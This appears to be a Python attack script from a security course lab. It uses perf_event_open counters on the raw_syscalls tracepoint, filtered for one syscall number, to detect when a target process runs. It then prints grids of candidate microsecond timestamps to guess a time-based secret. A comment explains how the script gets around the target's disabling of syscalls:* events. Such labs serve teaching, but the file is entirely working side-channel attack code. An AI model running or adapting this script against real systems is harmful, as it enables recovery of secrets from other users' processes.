# attack: Each of its lines holds a thousand guesses, one for each microsecond.
# lab: lab2
# earns: 2.1 2.2 2.3 2.5

from pathlib import Path

from bcc import BPF

b = BPF(src_file=str(Path(__file__).with_name("timestamp.c")))

import os
import struct
import time
from ctypes import CDLL, c_char_p

libc = CDLL(None)
EVENT = "/sys/kernel/tracing/events/raw_syscalls/sys_enter/id"
attribute = struct.pack("IIQ", 2, 112, int(open(EVENT).read())).ljust(112, b"\0")
counters = [
    libc.syscall(298, c_char_p(attribute), -1, cpu, -1, 0) for cpu in range(os.cpu_count())
]
# The witness's program ends the syscalls:* events with its 0; raw_syscalls is free.
for counter in counters:
    libc.ioctl(counter, 0x40082406, c_char_p(b"id == 83"))


def made():
    return sum(int.from_bytes(os.read(fd, 8), "little") for fd in counters)


seen = made()
then = time.clock_gettime_ns(time.CLOCK_MONOTONIC)
try:
    while True:
        now, clock = made(), time.clock_gettime_ns(time.CLOCK_MONOTONIC)
        if now != seen:
            grid = " ".join(map(str, range(then - 100_000, clock + 1_000_000, 1_000)))
            print(grid, flush=True)
            seen = now
        then = clock
except KeyboardInterrupt:
    pass
